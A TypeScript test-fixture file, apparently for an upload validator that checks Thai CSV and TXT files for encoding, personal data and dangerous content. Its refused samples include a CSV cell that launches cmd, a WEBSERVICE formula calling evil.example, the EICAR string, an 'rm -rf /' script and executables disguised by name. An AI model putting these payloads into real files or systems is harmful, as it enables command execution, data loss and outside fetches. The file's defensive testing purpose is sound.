import type { Sample } from './sample.ts';

/** Thai in the character set of Windows: the bytes of ก and on are 0xA1 and on. */
const windowsThai = (text: string) =>
  Buffer.from(
    Array.from(text, (letter) => {
      const code = letter.charCodeAt(0);
      return code >= 0x0e01 ? code - 0x0e01 + 0xa1 : code;
    }),
  );
/** Put together here, so that scanners leave this source alone. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-');
const text = (title: string, name: string, content: string | Buffer, says?: string): Sample => ({
  title,
  name,
  bytes: () => Buffer.from(content as string),
  text: 'read',
  ...(says === undefined ? {} : { says }),
});
const refused = (
  title: string,
  name: string,
  content: string | Buffer,
  code: NonNullable<Sample['refused']>[number],
): Sample => ({
  title,
  name,
  bytes: () => Buffer.from(content as string),
  refused: [code],
});

const PEOPLE =
  'ชื่อ,ที่อยู่,วันเกิด\r\nนายตัวอย่าง สมมุติ,บ้านเลขที่ 99/9 หมู่ที่ 4 ตำบลตัวอย่าง อำเภอเมือง,1 มกราคม 2530\r\n2,ปลายแถว';
const ASCII = 'code,amount\n' + 'A0,100\n'.repeat(12_000);
const cut = (from: number, to: number): Buffer => Buffer.from(PEOPLE).subarray(from, to);
const nonsense = (title: string, content: Buffer): Sample => ({
  title: `text that is nonsense in every character set: ${title}`,
  name: 'อ่านไม่ออก.txt',
  bytes: () => content,
  text: 'unreadable',
});

/** Texts as they come: cut, mixed, in other character sets, with Thai far down. */
const encodings: readonly Sample[] = [
  ...(
    [
      ['whole', cut(0, Infinity)],
      ['cut within the last letter', cut(0, -1)],
      ['cut within the last letter by two bytes', cut(0, -2)],
      ['cut within the first letter', cut(1, Infinity)],
      ['with a byte that was lost', Buffer.concat([cut(0, 40), cut(41, Infinity)])],
      ['with a byte that is none', Buffer.concat([cut(0, 12), Buffer.from([0xff]), cut(12, Infinity)])],
    ] as const
  ).map(([what, content]): Sample => ({
    ...text(`CSV in UTF-8 with a home address, ${what}`, 'คน.csv', content),
    finds: ['home_address', 'birth_date'],
  })),
  {
    ...text(
      'CSV with a home address in UTF-16 without its mark',
      'คน.csv',
      Buffer.from(PEOPLE, 'utf16le'),
      'ตำบลตัวอย่าง',
    ),
    finds: ['home_address'],
  },
  {
    ...text('CSV with a home address in windows-874', 'คน.csv', windowsThai(PEOPLE)),
    finds: ['home_address'],
  },
  text(
    'CSV with Thai of Windows behind much ASCII',
    'ยาว.csv',
    Buffer.concat([Buffer.from(ASCII), windowsThai('รวม,บาท\n')]),
  ),
  nonsense('western accents', Buffer.from('Le café où l’été…'.replace(/[’…]/g, ' '), 'latin1')),
  nonsense('Chinese', Buffer.from('d6d0b9fab1b1beabcac0bde7cde2c3b3b4f3d1a7fcfddbdedfd4', 'hex')),
  nonsense('two character sets in one file', Buffer.concat([Buffer.from(PEOPLE), windowsThai(PEOPLE)])),
];

export const TEXT_SAMPLES: readonly Sample[] = [
  text('CSV in UTF-8 with its mark', 'ข้อมูล.csv', '\ufeffลำดับ,โครงการ\r\n1,ปรับปรุงถนน\r\n', 'ปรับปรุงถนน'),
  text(
    'CSV in the Thai character set of Windows',
    'เก่า.csv',
    windowsThai('ลำดับ,ชื่อ\r\n1,น้ำประปา\r\n'),
    'น้ำประปา',
  ),
  text('TXT in UTF-16', 'บันทึก.txt', Buffer.from('\ufeffหมายเหตุ', 'utf16le'), 'หมายเหตุ'),
  text('TXT', 'README.TXT', 'อ่านก่อน', 'อ่านก่อน'),
  text('CSV with negative numbers and signs', 'ติดลบ.csv', 'ยอด,ส่วนต่าง\n-100,+5\n-20.5,@สำนักงาน\n'),
  {
    ...text('TXT with a national ID', 'รายชื่อ.txt', 'เลขประจำตัวประชาชน 1101700230708'),
    finds: ['national_id'],
  },
  ...encodings,
  refused('CSV that starts a program', 'dde.csv', "a,=cmd|'/c calc'!A0\n", 'active_content'),
  refused(
    'CSV that fetches from the network',
    'fetch.csv',
    'a,"=WEBSERVICE(""http://evil.example"")"\n',
    'outside_links',
  ),
  refused('EICAR', 'eicar.txt', eicar, 'virus'),
  refused('EICAR under the name of a program', 'eicar.com', eicar, 'virus'),
  refused('empty file', 'ว่าง.pdf', '', 'empty'),
  refused('web page', 'index.html', '<!DOCTYPE html><script>alert(1)</script>', 'type_not_allowed'),
  refused('web page named TXT', 'หน้าเว็บ.txt', '  <html><body>สวัสดี</body></html>', 'type_not_allowed'),
  refused('XML', 'data.xml', '<?xml version="1.0"?><a/>', 'type_not_allowed'),
  refused('RTF named DOCX', 'จดหมาย.docx', '{\\rtf1\\ansi hello}', 'type_not_allowed'),
  refused('script of a shell named TXT', 'run.txt', '#!/bin/sh\nrm -rf /\n', 'type_not_allowed'),
  refused('program of JavaScript', 'a.js', 'alert(1)', 'type_not_allowed'),
  refused('program of Windows', 'ติดตั้ง.exe', Buffer.from('MZ' + '\0'.repeat(200)), 'type_not_allowed'),
  refused(
    'program of Windows behind two endings',
    'รายงาน.pdf.exe',
    Buffer.from('MZ' + '\0'.repeat(200)),
    'type_not_allowed',
  ),
  refused(
    'program of Windows named PDF',
    'รายงาน.pdf',
    Buffer.from('MZ' + '\0'.repeat(200)),
    'type_not_allowed',
  ),
  refused(
    'program of Linux named TXT',
    'a.txt',
    Buffer.from('\u007fELF\u0002\u0001\u0001' + '\0'.repeat(200), 'latin1'),
    'type_not_allowed',
  ),
  refused('text named PDF', 'ไม่ใช่.pdf', 'นี่ไม่ใช่ PDF', 'name_and_content_differ'),
  refused('bytes named TXT', 'a.txt', Buffer.from([1, 2, 3, 0, 0, 4, 5]), 'broken'),
  refused('name that turns the direction of writing', 'รายงาน\u202efdp.txt', 'สวัสดี', 'name_not_allowed'),
  text('TXT with a name of 118 Thai letters', `${'ก'.repeat(118)}.txt`, 'สวัสดี'),
  refused('name that is too long', `${'ก'.repeat(252)}.txt`, 'สวัสดี', 'name_not_allowed'),
  refused('name without an ending', 'ไม่มีนามสกุล', 'สวัสดี', 'type_not_allowed'),
];
